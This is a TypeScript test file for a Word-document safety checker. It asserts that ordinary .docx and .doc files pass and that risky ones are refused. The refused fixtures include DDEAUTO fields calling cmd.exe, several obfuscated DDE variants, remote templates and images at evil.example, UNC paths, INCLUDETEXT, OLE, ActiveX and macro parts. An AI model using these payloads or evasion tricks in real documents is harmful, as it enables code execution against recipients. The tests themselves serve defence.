import { expect, test } from 'vitest';
import { buildCompound, buildDocx, docxEntries } from '../../../harness/documents.ts';
import type { ZipEntry } from '../../../harness/zip.ts';
import { checkDocument } from '../../test/check-document.ts';

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

const withPart = (...parts: ZipEntry[]) => buildDocx([...docxEntries, ...parts]);

function relationship(type: string, target: string, mode = ' TargetMode="External"'): ZipEntry {
  const one = `<Relationship Id="rId1" Type="${OFFICE}/${type}" Target="${target}"${mode}/>`;
  return {
    name: 'word/_rels/document.xml.rels',
    content: `<?xml version="1.0"?><Relationships>${one}</Relationships>`,
  };
}

const run = (inner: string) => `<w:r>${inner}</w:r>`;
const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
const code = (...texts: string[]) =>
  texts.map((text) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`)).join('');
const field = (inner: string, result = '') =>
  `${mark('begin')}${inner}${mark('separate')}${result}${mark('end')}`;

const body = (content: string, name = 'word/footer1.xml'): ZipEntry => ({
  name,
  content: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:ftr><w:p>${content}</w:p></w:ftr>`,
});

const accepted: [what: string, bytes: Buffer][] = [
  ['a link to a website', withPart(relationship('hyperlink', 'https://cafe.example/?a=1&amp;b=2'))],
  ['a link to an email address', withPart(relationship('hyperlink', 'mailto:dana@cafe.example'))],
  ['a picture of its own', withPart(relationship('image', 'media/image1.png', ''))],
  ['page numbers', withPart(body(field(code(' PAGE \\* MERGEFORMAT '), run('<w:t>1</w:t>'))))],
  ['a table of contents', withPart(body(field(code(' TOC \\o "1-3" ', field(code(' PAGEREF _Toc1 \\h '))))))],
  ['words about DDE', withPart(body(run('<w:t>DDEAUTO is a field; LINK too</w:t>')))],
  ['a quoted word', withPart(body(field(code(' QUOTE "2026" '))))],
  ['fonts', withPart({ name: 'word/fonts/font1.odttf', content: Buffer.alloc(5000, 0xfe) })],
  ['a part with a byte order mark', withPart({ name: 'customXml/item1.xml', content: '\ufeff<a/>' })],
  ['a comment and a data section', withPart(body('<!-- a --><w:t><![CDATA[<b>]]></w:t>'))],
];

for (const [what, bytes] of accepted) {
  test(`a Word document with ${what} is accepted`, async () => {
    for (const pieceSize of [7, 1000, 65_536])
      await expect(checkDocument('letter.docx', bytes, pieceSize)).resolves.toBeUndefined();
  });
}

const ELSEWHERE = /loads content from somewhere else/;
const EMBEDDED = /has another file or a control embedded/;
const FIELD = /contains a field that runs commands or loads data/;
const BROKEN = /damaged or malformed/;

const refused: [what: string, bytes: Buffer, why: RegExp][] = [
  [
    'a template from elsewhere',
    withPart(relationship('attachedTemplate', 'https://evil.example/a.dotm')),
    ELSEWHERE,
  ],
  ['a picture from elsewhere', withPart(relationship('image', 'https://evil.example/a.png')), ELSEWHERE],
  ['a frame from elsewhere', withPart(relationship('frame', 'https://evil.example/')), ELSEWHERE],
  ['a file on another computer', withPart(relationship('image', '\\\\evil.example\\a.png', '')), ELSEWHERE],
  [
    'a target that does not say it is external',
    withPart(relationship('image', 'https://evil.example/a', '')),
    ELSEWHERE,
  ],
  ['an escaped mode', withPart(relationship('image', 'a', ' TargetMode="&#69;xternal"')), ELSEWHERE],
  ['an escaped type', withPart(relationship('ole&#79;bject', 'a.bin', '')), EMBEDDED],
  ['an object', withPart(relationship('oleObject', 'embeddings/oleObject1.bin', '')), EMBEDDED],
  ['an object by its name', withPart({ name: 'word/embeddings/oleObject1.bin', content: 'x' }), EMBEDDED],
  ['a control', withPart(relationship('control', 'activeX/activeX1.xml', '')), EMBEDDED],
  ['a control by its name', withPart({ name: 'word/activeX/activeX1.bin', content: 'x' }), EMBEDDED],
  ['another document', withPart(relationship('aFChunk', 'chunk.html', '')), EMBEDDED],
  ['a macro', withPart(relationship('vbaProject', 'code.bin', '')), EMBEDDED],
  ['a DDE field', withPart(body(field(code(' DDEAUTO c:\\\\cmd.exe "/k calc" ')))), FIELD],
  ['a DDE field in pieces', withPart(body(field(code('D', 'DE', ' c:\\\\cmd.exe')))), FIELD],
  ['an unfinished DDE field', withPart(body(`${mark('begin')}${code('DDE a b')}${mark('end')}`)), FIELD],
  ['an escaped DDE field', withPart(body(field(code('&#68;DE&#x41;UTO a')))), FIELD],
  ['a DDE field from a data section', withPart(body(field(code('<![CDATA[DDE]]> a')))), FIELD],
  ['a DDE field around a comment', withPart(body(field(code('D<!-- -->DE a')))), FIELD],
  ['a simple DDE field', withPart(body('<w:fldSimple w:instr=" DDE a b "/>')), FIELD],
  ['a DDE field with another prefix', withPart(body("<x:fldSimple x:instr='DDE > b'/>")), FIELD],
  [
    'a DDE field from the result of another',
    withPart(body(field(field(code(' SET a '), run('<w:t>DDE</w:t>')) + code(' a')))),
    FIELD,
  ],
  ['a DDE field spelled in numbers', withPart(body(field(code(' QUOTE 68 68 69 65 85 84 79 ')))), FIELD],
  [
    'a DDE field in a part with another name',
    withPart(body(field(code('DDE a')), 'word/anything.bin')),
    FIELD,
  ],
  ['text from another file', withPart(body(field(code(' INCLUDETEXT "https://evil.example/a" ')))), FIELD],
  ['a part in UTF-16', withPart({ name: 'a.xml', content: Buffer.from('\ufeff<a/>', 'utf16le') }), BROKEN],
  [
    'a part in another encoding',
    withPart({ name: 'a.xml', content: '<?xml version="1.0" encoding="utf-7"?><a/>' }),
    BROKEN,
  ],
  ['a document type', withPart({ name: 'a.xml', content: '<!DOCTYPE a [<!ENTITY b "DDE">]><a/>' }), BROKEN],
  ['relationships that are not XML', withPart({ name: 'word/_rels/a.rels', content: 'x' }), BROKEN],
  ['a tag without end', withPart({ name: 'a.xml', content: `<a b="${'c'.repeat(2_000_000)}` }), BROKEN],
];

for (const [what, bytes, why] of refused) {
  test(`a Word document with ${what} is refused in words`, async () => {
    for (const pieceSize of [7, 65_536]) {
      const attempt = checkDocument('letter.docx', bytes, pieceSize);
      await expect(attempt).rejects.toMatchObject({
        code: 'unsupported-file',
        message: expect.stringMatching(why),
      });
    }
  });
}

const old: [what: string, bytes: Buffer, why: RegExp][] = [
  ['an object', buildCompound('WordDocument', '\u0003ObjInfo'), EMBEDDED],
  ['a packaged file', buildCompound('WordDocument', '\u0001Ole10Native'), EMBEDDED],
  ['a control', buildCompound('WordDocument', '\u0003OCXNAME'), EMBEDDED],
  ['a DDE field', Buffer.concat([buildCompound('WordDocument'), Buffer.from('\u0013 DDEAUTO a')]), FIELD],
  [
    'a wide DDE field',
    Buffer.concat([buildCompound('WordDocument'), Buffer.from('\u0013DDE a', 'utf16le')]),
    FIELD,
  ],
];

for (const [what, bytes, why] of old) {
  test(`an old Word document with ${what} is refused in words`, async () => {
    for (const pieceSize of [7, 65_536])
      await expect(checkDocument('letter.doc', bytes, pieceSize)).rejects.toThrow(why);
  });
}

test('an old Word document with room for objects but none in it is accepted', async () => {
  const bytes = buildCompound('WordDocument', 'ObjectPool', '\u0001CompObj');
  await expect(checkDocument('letter.doc', bytes)).resolves.toBeUndefined();
});
